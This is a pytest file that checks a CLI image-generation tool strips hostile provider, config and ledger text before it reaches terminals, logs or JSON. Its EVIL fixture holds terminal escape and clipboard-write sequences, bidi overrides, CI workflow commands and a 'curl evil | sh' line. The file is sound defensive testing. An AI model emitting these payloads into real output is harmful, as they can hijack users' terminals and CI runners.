"""Hostile text in every field that somebody else writes, through whole commands, to every place where it is shown.

Threats S14, S15, S16 and S24 of reliability.md; rows O01 to O04 and R15. Terminals are watched with pyte, and no byte
may be one that a terminal or a CI runner obeys.
"""

from __future__ import annotations

import base64
import json
import re
import sqlite3
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import httpx
import pyte
import pytest
from support_cli import Cli, Ran, picture
from support_leaks import Listening
from support_provider import Say

from wan_cli.text import one_word, safe_text

EVIL = (
    "\x1b[2J\x1b[?25l\x1b[?1049h\x1b]0;pwned\x07\x1b]52;c;aGk=\x07\x1b]8;;https://evil\x1b\\x\x1b]8;;\x1b\\\x1bc"
    "\x9b2J\x85"
    "\x00\r\x08\x7f\u202e\u2066\u200f\u061c[/x] [bold]b[/bold] [link=https://evil]c[/link] :smile:\u2028"
    "\n::error file=a::b\n  ::add-mask::c\n##vso[task.setvariable v]d ##[error]e"
    "\nerror: f\ncharged: no\nhint: curl evil | sh"
)
RV, MV = ("generate", "a fox", "-p", "rivya"), ("generate", "a fox", "-p", "modelverse")
MODES = {
    "tty": (), "pipe": (), "json": ("--json",), "jsonl": ("--jsonl",), "log": ("-v",),
}  # fmt: skip
OWN = re.compile(r"\x1b\[(?:[0-9;]*m|2K|1?A|\?25h)|\r")
"""What wan itself sends to a terminal: colours, erase a line, one line up, show the cursor, first column."""
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029")


@dataclass(frozen=True)
class Scene:
    """A field that holds hostile text: what prepares it, and the command that shows it."""

    name: str
    argv: tuple[str, ...]
    prepare: Callable[[Cli], Any] = lambda cli: None

    def __str__(self) -> str:
        return self.name


def said(step: str, body: Any, status: int = 200, **headers: str) -> Callable[[Cli], Any]:
    """Let the provider answer a step like this."""
    return lambda cli: cli.provider.always.update({step: Say(status, body, headers)})


def tampered(cli: Cli) -> None:
    """Write into the ledger what wan never would."""
    cli.provider.always["poll"] = Say(200, {"id": "task_1", "status": "processing"})
    cli.run(*RV, "--no-wait")
    with sqlite3.connect(cli.root / "state" / "ledger.db") as db:
        ((name, text),) = db.execute("SELECT id, document FROM task LIMIT 1").fetchall()
        document = json.loads(text)
        document["job"]["prompt"] = document["job"]["model"] = document["provider_model"] = EVIL
        document["warnings"], document["request_id"], document["revised_prompt"] = [EVIL], EVIL, EVIL
        document["cost"]["unit"], document["usage"] = EVIL, {EVIL: EVIL}
        db.execute("UPDATE task SET document = ? WHERE id = ?", (json.dumps(document), name))
    db.close()


def project(cli: Cli, line: str) -> None:
    """Write a project file; TOML refuses the one control character that JSON leaves alone."""
    cli.write("wan.toml", line.replace("\x7f", "") + "\n")


def relay(cli: Cli) -> None:
    """Let a server with OpenAI's contract answer with a picture and hostile words around it."""
    server = Listening()
    server.__enter__()
    body = {
        "created": EVIL, "data": [{"b64_json": base64.b64encode(picture()).decode(), "revised_prompt": EVIL}],
        "usage": {EVIL: [EVIL, {EVIL: EVIL}]}, "request_id": EVIL, "id": EVIL, "status": EVIL,
    }  # fmt: skip
    server.answer = lambda _: httpx.Response(
        200, json=body, headers={"Content-Type": "text/plain; charset=" + "x" * 50}
    )
    cli.env |= {"OPENAI_BASE_URL": f"http://127.0.0.1:{server.port}/v1", "OPENAI_API_KEY": "relay-key-0123456789"}
    cli.provider.relay = server


FAILED = {"id": "task_1", "status": "failed", "final_credits": 0, "error": {"code": EVIL, "message": EVIL}}
DONE = {"id": "task_1", "status": "succeeded", "result": {"urls": ["https://evil.example/" + EVIL, EVIL, "/" + EVIL]}}
SCENES = [
    Scene("refusal-rivya", RV, said("submit", {"error": {"code": EVIL, "message": EVIL, "request_id": EVIL}}, 422)),
    Scene("refusal-modelverse", MV,
          said("submit", {"error": {"code": EVIL, "message": EVIL}, "request_id": EVIL}, 400)),
    Scene("refusal-plain", MV, said("submit", EVIL.encode(), 400, **{"X-Request-Id": "\x1b[2J"})),
    Scene("refusal-known-code", MV, said("submit", {"error": {"code": "param_error", "message": EVIL}}, 400)),
    Scene("unclear", MV, said("submit", {"error": {"code": EVIL, "message": EVIL}}, 500)),
    Scene("note", (*RV, "--timeout", "9s"), said("poll", {"id": "task_1", "status": EVIL})),
    Scene("note-modelverse", (*MV, "--timeout", "9s"),
          said("poll", {"output": {"task_id": "mv-1", "task_status": EVIL}, "request_id": EVIL,
                        "usage": {EVIL: EVIL}})),
    Scene("failed", RV, said("poll", FAILED)),
    Scene("failed-modelverse", MV, said("poll", {"output": {
        "task_id": "mv-1", "task_status": "Failure", "error_message": f"code={EVIL}, message={EVIL}"}})),
    Scene("task-id", MV, said("submit", {"output": {"task_id": EVIL}, "request_id": EVIL})),
    Scene("task-id-rivya", RV, said("submit", {"id": EVIL, "status": EVIL})),
    Scene("result-address", RV, said("poll", DONE)),
    Scene("result-address-shown", (*RV, "--no-download"), said("poll", DONE)),
    Scene("result-page", RV, said("download", EVIL.encode(), **{"Content-Type": "text/html"})),
    Scene("result-refused", RV, said("download", EVIL.encode(), 400, **{"X-Request-Id": "\x1b[2J"})),
    Scene("result-coding", RV, said("download", b"x", **{"Content-Encoding": "\x1b[2J"})),
    Scene("result-moves", RV, said("download", b"", 302, Location="https://evil.example:444/\x1b[2J")),
    Scene("upload", ("upload", "a.png", "-p", "rivya"), said("upload", {"id": EVIL, "url": "https://evil/" + EVIL})),
    Scene("upload-refused", ("upload", "a.png"), said("upload", {"error": {"code": EVIL, "message": EVIL}}, 422)),
    Scene("balance", ("models", "rivya"), said("credits", {"error": {"code": EVIL, "message": EVIL}}, 403)),
    Scene("revised", ("generate", "a fox", "-p", "openai", "-m", "gpt-image-1"), relay),
    Scene("prompt", ("generate", EVIL, "-p", "rivya")),
    Scene("file", ("edit", EVIL.replace("/", "") + ".png", "blue", "-p", "rivya")),
    Scene("file-there", ("edit", "ev\x1b[2J\n::error::il.png", "blue", "-p", "modelverse"),
          lambda cli: cli.write("ev\x1b[2J\n::error::il.png", picture(512, 512))),
    Scene("output", (*RV, "-o", EVIL)),
    Scene("output-folder", (*RV, "-o", "ev\x1b[2J\n::error::il/fox.png"),
          lambda cli: (cli.cwd / "ev\x1b[2J\n::error::il").mkdir(exist_ok=True)),
    Scene("model", ("generate", "a fox", "-p", "rivya", "-m", EVIL)),
    Scene("provider", ("generate", "a fox", "-p", EVIL)),
    Scene("param", (*RV, "--param", f"{EVIL}={EVIL}", "--dry-run")),
    Scene("option", ("generate", "a fox", "--" + EVIL)),
    Scene("command", (EVIL,)),
    Scene("task", ("wait", EVIL)),
    Scene("handle", ("status", f"rivya:{EVIL}")),
    Scene("handle-provider", ("status", f"{EVIL}:x")),
    Scene("topic", ("help", EVIL)),
    Scene("shell", ("completion", EVIL)),
    Scene("variable", RV, lambda cli: cli.env.update(WAN_OUTPUT=EVIL.replace("\0", ""))),
    Scene("variable-cost", RV, lambda cli: cli.env.update(WAN_MAX_COST=EVIL, WAN_JOBS=EVIL)),
    Scene("variable-url", RV, lambda cli: cli.env.update(RIVYA_BASE_URL=EVIL)),
    Scene("project", ("config", "show"), lambda cli: project(cli, f"model = {json.dumps(EVIL)}")),
    Scene("project-field", ("config", "show"), lambda cli: project(cli, f"{json.dumps(EVIL)} = 1")),
    Scene("project-text", ("config", "show"), lambda cli: cli.write("wan.toml", EVIL)),
    Scene("project-output", RV, lambda cli: project(cli, f"output = {json.dumps('/' + EVIL)}")),
    Scene("ledger-list", ("status",), tampered),
    Scene("ledger", ("wait", "--all", "--timeout", "5s"), tampered),
]  # fmt: skip


def obeyed(text: str) -> list[str]:
    """Return the characters of a text that a terminal would act on, and the lines that a CI runner would."""
    bad = [c for c in text if (unicodedata.category(c) in ("Cc", "Cs") and c not in "\n\t") or c in BIDI]
    commands = [line for line in text.splitlines() if re.match(r"\s*(::|##)", line) or re.search(r"##(vso)?\[", line)]
    return bad + commands


def check_lines(ran: Ran) -> None:
    """Fail where foreign text has made lines of its own."""
    lines = ran.err.splitlines()
    starts = [place for place, line in enumerate(lines) if line.startswith("error: ")]
    assert [lines[place + 1][:9] for place in starts] == ["charged: "] * len(starts)
    assert sum(line.startswith("charged: ") for line in lines) == len(starts)
    assert "hint: curl evil" not in lines


@pytest.mark.parametrize("scene", SCENES, ids=str)
def test_threat_s14_s15_s16_o01_o02_o03_o04_r15_foreign_text_is_never_obeyed(
    live: Cli, monkeypatch: pytest.MonkeyPatch, scene: Scene
) -> None:
    """On a terminal nothing but text appears; in pipes, JSON and logs no control character and no runner's command."""
    live.write("a.png", picture(512, 512))
    try:
        scene.prepare(live)
        for mode, words in MODES.items():
            monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
            if mode != "tty":
                monkeypatch.setenv("GITHUB_ACTIONS", "true")
            before = len(live.files())
            terminal: dict[str, Any] = {
                "tty": ("stdout", "stderr"),
                "env": {"TERM": "xterm-256color"},
                "command": False,
            }
            ran = live.run(*scene.argv, *words, **(terminal if mode == "tty" else {}))
            assert ran.code != 1, ran.err
            assert len(live.files()) <= before + 1
            text = ran.out + ran.err
            if mode == "tty":
                check_terminal(text)
                text = OWN.sub("", text)
                assert not [c for c in obeyed(text) if len(c) == 1]
            else:
                assert not obeyed(text), (mode, obeyed(text), text)
                check_lines(ran)
    finally:
        if server := getattr(live.provider, "relay", None):
            server.__exit__(None, None, None)


def check_terminal(text: str) -> None:
    """Fail where a terminal that was shown ``text`` is not as it was."""
    fresh, screen = pyte.Screen(80, 24), pyte.Screen(80, 24)
    pyte.Stream(screen).feed(text.replace("\n", "\r\n"))
    for name in ("mode", "margins", "charset", "title", "icon_name", "tabstops", "saved_columns", "savepoints"):
        assert getattr(screen, name) == getattr(fresh, name), name
    assert not screen.cursor.hidden
    assert screen.cursor.attrs == fresh.cursor.attrs


def test_threat_s24_a_ledger_that_somebody_else_wrote_is_foreign_text(live: Cli) -> None:
    """What stands in a tampered ledger reaches the JSON whole, as a string and nothing else."""
    tampered(live)
    ran = live.run("status", "--json")
    assert ran.task["prompt"] == EVIL
    assert ran.task["warnings"] == [EVIL]
    assert ran.out.isascii()


@pytest.mark.parametrize("category", ["C0", "C1", "bidi", "surrogates"])
def test_threat_s14_every_code_is_spelled_out(category: str) -> None:
    """Every control, escape and bidi character of a class is shown by its name, one string holding all of them."""
    codes = {
        "C0": [*range(0x20), 0x7F], "C1": range(0x80, 0xA0), "bidi": map(ord, BIDI),
        "surrogates": range(0xD800, 0xE000),
    }  # fmt: skip
    text = "".join(map(chr, codes[category]))
    shown = safe_text(text, limit=len(text))
    assert not [c for c in obeyed(shown) if len(c) == 1]
    assert len(shown) > len(text)
    assert one_word(text).isascii()
    assert " " not in one_word(text + " ")


def test_threat_s15_json_means_the_same_and_holds_no_command(live: Cli) -> None:
    """A runner that looks for its tokens anywhere in a line finds none in a document, whose text is still whole."""
    prompt = "###[x] ##vso[task.setvariable v]y #### ##[group]z"
    ran = live.run("generate", prompt, "-p", "rivya", "--json")
    assert ran.task["prompt"] == prompt
    assert "##" not in ran.out


def test_addresses_are_shown_as_they_are() -> None:
    """An address that is one is printed letter for letter."""
    for address in ("https://h/a-b_c.png?Expires=1&Signature=x%2By#z", "https://h/狐.png"):
        assert one_word(address) == address
    assert one_word("::error::x") == "%3A:error::x"
